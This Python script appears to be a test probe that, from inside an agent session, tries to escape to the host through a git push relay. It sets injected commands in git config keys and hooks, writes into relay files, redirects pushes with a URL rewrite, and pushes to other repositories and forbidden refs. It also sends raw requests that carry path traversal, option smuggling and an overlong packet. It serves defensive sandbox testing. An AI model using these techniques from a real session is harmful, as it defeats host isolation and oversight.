"""Probe agent: attacks the push door from inside a session, the ways that once gave a session
root on the host through a relay it could write. Prints one `RELAY {json}` line of what it
saw; the test judges by what happened on the host, not by what this says.

Env: MARKER (a host path an injected command would create), LISTENER (git://host:port of a
listener on the host's loopback), DATA_DIR_GUESS (the host's data dir).
"""
import json
import os
import socket
import subprocess
import sys

repo = os.environ["ROUTINELY_REPOS"].split()[0]
marker = os.environ["MARKER"]
inject = f"touch {marker}"
seen = {}


def git(*args, check=False):
    done = subprocess.run(["git", *args], cwd=repo, capture_output=True, text=True, timeout=60)
    print(f"$ git {' '.join(args)} -> {done.returncode}\n{done.stdout}{done.stderr}", flush=True)
    return done


def attempt(name, fn):
    try:
        seen[name] = {"ok": True, "value": fn()}
    except Exception as exc:  # noqa: BLE001 - a probe reports every failure
        seen[name] = {"ok": False, "error": f"{type(exc).__name__}: {exc}"}


origin = git("remote", "get-url", "origin").stdout.strip()
seen["origin"] = origin

with open(os.path.join(repo, "allowed.txt"), "w") as f:
    f.write("allowed\n")
git("add", "allowed.txt")
git("-c", "core.fsmonitor=false", "commit", "-qm", "allowed", "--no-verify")
git("tag", "v9")

# 1. a command run by git: everywhere git reads config or hooks
for key in ("core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "credential.helper",
            "core.alternateRefsCommand", "uploadpack.packObjectsHook", "filter.x.smudge", "filter.x.clean",
            "diff.external", "gpg.program"):
    git("config", key, f"!{inject}" if key == "credential.helper" else inject)
hooks = os.path.join(repo, ".git", "hooks")
os.makedirs(hooks, exist_ok=True)
for hook in ("pre-push", "post-checkout", "reference-transaction", "pre-receive", "post-receive", "post-update"):
    path = os.path.join(hooks, hook)
    with open(path, "w") as f:
        f.write(f"#!/bin/sh\n{inject}\n")
    os.chmod(path, 0o755)
with open(os.path.join(repo, ".git", "info", "attributes"), "w") as f:
    f.write("* filter=x\n")
with open(os.path.join(os.environ["HOME"], ".gitconfig"), "w") as f:
    f.write(f"[core]\n\tfsmonitor = {inject}\n\thooksPath = {hooks}\n[protocol]\n\tallow = always\n")

# ... and into the relay itself, if it can be found and written
data = os.environ.get("DATA_DIR_GUESS", "")
relays = os.path.join(data, "relays", os.environ["ROUTINELY_SESSION_ID"])
attempt("list_relays", lambda: os.listdir(os.path.join(data, "relays")))
for target in (os.path.join(relays, "octo__api.git", "hooks", "post-receive"), os.path.join(relays, "octo__api.git", "config"),
               os.path.join(relays, ".hooks", "pre-receive")):
    def write(target=target):
        with open(target, "a") as f:
            f.write(f"\n{inject}\n")
        return target
    attempt("write " + target, write)
if origin.startswith("/") and os.path.isdir(origin):  # an old relay path: its own config and hooks
    attempt("relay_config", lambda: open(os.path.join(origin, "config"), "a").write(
        f"[url \"{os.environ['LISTENER']}/\"]\n\tinsteadOf = file://\n[remote \"origin\"]\n\tmirror = true\n"))


# 2. a URL rewrite to a loopback listener the test runs
git("config", f"url.{os.environ['LISTENER']}/.insteadOf", "file://")
git("push", "--no-verify", os.environ["LISTENER"] + "/octo/api.git", "HEAD:refs/heads/claude/listener")
# 3. another repository of the installation, through the same door
git("push", "--no-verify", origin.replace("/octo/api.git", "/octo/other.git"), "HEAD:refs/heads/claude/x")
git("push", "--no-verify", origin.replace("/octo/api.git", "/octo/../octo/other.git"), "HEAD:refs/heads/claude/x")
# 4. tags and refs the guard never forwards, pushed every way
git("push", "--no-verify", "origin", "v9")
git("push", "--no-verify", "origin", "HEAD:refs/tags/v10")
git("push", "--no-verify", "--mirror", "origin")
git("push", "--no-verify", "origin", "HEAD:refs/notes/commits", "HEAD:refs/replace/" + git("rev-parse", "HEAD~0").stdout.strip())
git("push", "--no-verify", "origin", "HEAD:refs/heads/main")
git("push", "--no-verify", "origin", ":refs/heads/main")
git("push", "--no-verify", "-o", "anything", "origin", "HEAD:refs/heads/claude/opt")
# a tree fsck refuses (an entry named .git): objects are checked on receipt
blob = subprocess.run(["git", "hash-object", "-w", "--stdin"], cwd=repo, input="x", capture_output=True, text=True).stdout.strip()
tree = subprocess.run(["git", "mktree", "--missing"], cwd=repo, input=f"100644 blob {blob}\t.git\n",
                      capture_output=True, text=True).stdout.strip()
if tree:
    commit = subprocess.run(["git", "commit-tree", tree, "-m", "dotgit"], cwd=repo, capture_output=True, text=True).stdout.strip()
    git("push", "--no-verify", "origin", f"{commit}:refs/heads/claude/dotgit")

# the door itself, spoken to raw: other services, paths, overlong requests
host, _, port = origin.removeprefix("git://").partition("/")[0].partition(":")


def raw(request: bytes) -> str:
    with socket.create_connection((host, int(port)), timeout=15) as s:
        s.sendall(request)
        return s.recv(200).decode(errors="replace")


for name, request in (("archive", b"git-upload-archive /octo/api.git\0host=x\0"),
                      ("dotdot", b"git-upload-pack /../../../etc\0host=x\0"),
                      ("option", b"git-upload-pack --upload-pack=touch\0host=x\0")):
    attempt("raw " + name, lambda request=request: raw(b"%04x" % (len(request) + 4) + request))
attempt("raw long", lambda: raw(b"ffff" + b"a" * 70000))

# and the branch that is allowed still goes through
git("push", "--no-verify", "origin", "HEAD:refs/heads/claude/ok")
print("RELAY " + json.dumps(seen), flush=True)
sys.exit(0)
